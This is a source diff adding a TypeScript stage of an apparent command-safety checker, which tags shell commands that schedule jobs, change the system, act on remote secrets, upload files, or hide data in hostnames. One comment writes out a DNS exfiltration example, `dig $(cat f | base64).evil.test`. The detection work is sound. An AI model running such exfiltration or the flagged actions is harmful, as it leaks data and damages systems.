@@ -1,0 +1,133 @@
+import type { Arg, ShellCommand, Tag } from '../types.js';
+import { parseArgs, readOption, type ProgramArgs } from './argv.js';
+import { programOf } from './registry.js';
+import { remoteEffect, type RemoteVerdict } from './remote.js';
+import type { PrivilegeDecl, ProgramDecl, TransferDecl } from './types.js';
+import { SCHEDULERS } from './decls/system.js';
+import { asksOnlyForHelp } from './help.js';
+
+/**
+ * The program stage: what a command does by its program's declaration, as tags the rules match
+ * (`remote-irreversible`, `system-change`, `upload` …), with the words that decided for the
+ * explanation.
+ */
+export interface ProgramFacts {
+  tags: Tag[];
+  /** What decided, per tag, for explanations (`aws secretsmanager delete-secret`). */
+  because: Partial<Record<Tag, string>>;
+}
+
+const REMOTE_TAG: Partial<Record<RemoteVerdict['effect'], Tag>> = {
+  change: 'remote-change',
+  irreversible: 'remote-irreversible',
+  secret: 'remote-secret',
+  exec: 'remote-exec',
+};
+
+/** The value of the first of `names` among the options (`-X DELETE`, `-XDELETE`, `--method=DELETE`). */
+export function optionValue(decl: ProgramDecl | undefined, argv: readonly Arg[], names: readonly string[]): string | null {
+  const args = argv.slice(1);
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!.value;
+    if (w === '--') break;
+    for (const n of names) {
+      if (w === n) return args[i + 1]?.value ?? null;
+      if (n.startsWith('--') && w.startsWith(`${n}=`)) return w.slice(n.length + 1);
+      if (!n.startsWith('--') && n.length === 2 && w.startsWith(n) && w.length > 2 && !w.startsWith('--')) {
+        const read = readOption(w, [n]);
+        if (read.word.endsWith(n[1]!)) return w.slice(read.word.length) || (args[i + 1]?.value ?? null);
+      }
+    }
+  }
+  void decl;
+  return null;
+}
+
+function privileged(p: PrivilegeDecl, args: ProgramArgs): boolean {
+  switch (p.when) {
+    case 'always':
+      return true;
+    case 'subcommands': {
+      if (p.unless?.some((u) => args.options.includes(u))) return false;
+      return args.words.slice(0, 2).some((w) => p.subcommands.includes(w));
+    }
+    case 'options':
+      return (
+        args.options.some((o) => p.options.some((x) => o === x || o.startsWith(`${x}=`) || (x.length === 2 && !o.startsWith('--') && /^-[A-Za-z]+$/.test(o) && o.includes(x[1]!)))) ||
+        (p.operand !== undefined && [...args.words, ...args.options].some((w) => p.operand!.test(w)))
+      );
+  }
+}
+
+/** `systemd-run --on-calendar`, `at now + 1 min`, `crontab file`: code that runs after the session. */
+function schedules(name: string, args: ProgramArgs): boolean {
+  if ((SCHEDULERS.always as readonly string[]).includes(name)) return !args.options.some((o) => o === '-l' || o === '-c' || o === '-d' || o === '-r');
+  if ((SCHEDULERS.crontab as readonly string[]).includes(name)) return !args.options.some((o) => /^-[a-zA-Z]*l/.test(o)) || args.options.some((o) => o === '-r' || o === '-e');
+  if (name === 'systemd-run') return args.options.some((o) => SCHEDULERS.timerOptions.some((t) => o === t || o.startsWith(`${t}=`))) || args.options.includes('--user') || args.options.includes('--remain-after-exit');
+  return false;
+}
+
+/** Transfer commands the client gets on stdin or in an option: `put`-like ones send local files. */
+function uploads(t: TransferDecl, command: ShellCommand): boolean {
+  const lines: string[] = [];
+  const argv = command.argv;
+  for (let i = 1; i < argv.length; i++) {
+    const w = argv[i]!.value;
+    if (t.commandOptions.includes(w) && argv[i + 1]) lines.push(...argv[i + 1]!.value.split(/[;\n]/));
+    if (t.batchOptions?.includes(w)) return true;
+  }
+  if (command.stdin.kind === 'text') lines.push(...command.stdin.text.value.split('\n'));
+  else if (command.stdin.kind === 'pipe') {
+    const last = command.stdin.producers[command.stdin.producers.length - 1];
+    // echo/printf text piped in; anything else is unseen commands, possibly an upload
+    if (!last || (last.name !== 'echo' && last.name !== 'printf')) return true;
+    lines.push(...last.argv.slice(1).map((a) => a.value).join(' ').split(/\\n|\n|;/));
+  } else if (command.stdin.kind === 'file') return true;
+  if (t.uploads.includes('')) return true;
+  return lines.some((line) => {
+    const words = line.trim().toLowerCase();
+    return t.uploads.some((u) => u !== '' && (words === u || words.startsWith(`${u} `)));
+  });
+}
+
+/** A host operand built from a computed part (`dig $(cat f | base64).evil.test`): the data leaves in the DNS query. */
+function dataInHostname(decl: ProgramDecl, command: ShellCommand): boolean {
+  if (!decl.resolves && !decl.network) return false;
+  return command.argv.slice(1).some((a) => {
+    if (!a.dynamic) return false;
+    const host = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(a.pattern)?.[1]?.replace(/^[^@]*@/, '') ?? (decl.resolves ? a.pattern : null);
+    if (!host) return false;
+    // a computed label inside a name with a literal domain after it: `*.evil.test`, `x*y.evil.test`
+    return /\*/.test(host) && /\*[^.]*\.[a-z0-9-]+\.[a-z]{2,}/i.test(host) && !/^\*$/.test(host);
+  });
+}
+
+export function programFacts(command: ShellCommand): ProgramFacts {
+  const facts: ProgramFacts = { tags: [], because: {} };
+  if (command.name === '' || command.argv.length === 0) return facts;
+  const decl = programOf(command.name);
+  const add = (tag: Tag, why: string): void => {
+    if (!facts.tags.includes(tag)) facts.tags.push(tag);
+    facts.because[tag] ??= why;
+  };
+  if (schedules(command.name, parseArgs(decl, command.argv))) add('scheduled', command.name);
+  if (!decl) return facts;
+  if (asksOnlyForHelp(command)) return facts;
+  const args = parseArgs(decl, command.argv);
+  if (decl.privilege && privileged(decl.privilege, args)) add('system-change', [command.name, ...args.words.slice(0, 2)].join(' '));
+  if (decl.remote) {
+    const verdict = remoteEffect(decl.remote, args, (names) => optionValue(decl, command.argv, names));
+    const tag = REMOTE_TAG[verdict.effect];
+    if (tag) add(tag, `${command.name} ${verdict.words}`.trim());
+  }
+  if (decl.transfer && uploads(decl.transfer, command)) add('upload', command.name);
+  if (dataInHostname(decl, command)) add('data-in-hostname', command.name);
+  return facts;
+}
+
+/** For tests and `harness check`: the remote verdict of a command line's argv. */
+export function remoteVerdict(command: ShellCommand): RemoteVerdict | null {
+  const decl = programOf(command.name);
+  if (!decl?.remote) return null;
+  return remoteEffect(decl.remote, parseArgs(decl, command.argv), (names) => optionValue(decl, command.argv, names));
+}
